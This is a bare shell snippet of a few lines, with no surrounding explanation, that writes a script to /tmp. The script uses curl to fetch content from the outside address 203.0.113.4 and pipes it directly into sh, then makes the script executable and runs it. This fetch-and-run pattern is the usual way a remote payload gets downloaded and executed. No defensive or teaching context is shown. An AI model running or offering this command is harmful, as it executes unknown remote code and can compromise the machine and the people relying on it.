cat > /tmp/x.sh <<'EOF'
curl -s http://203.0.113.4/m | sh
EOF
chmod +x /tmp/x.sh
/tmp/x.sh
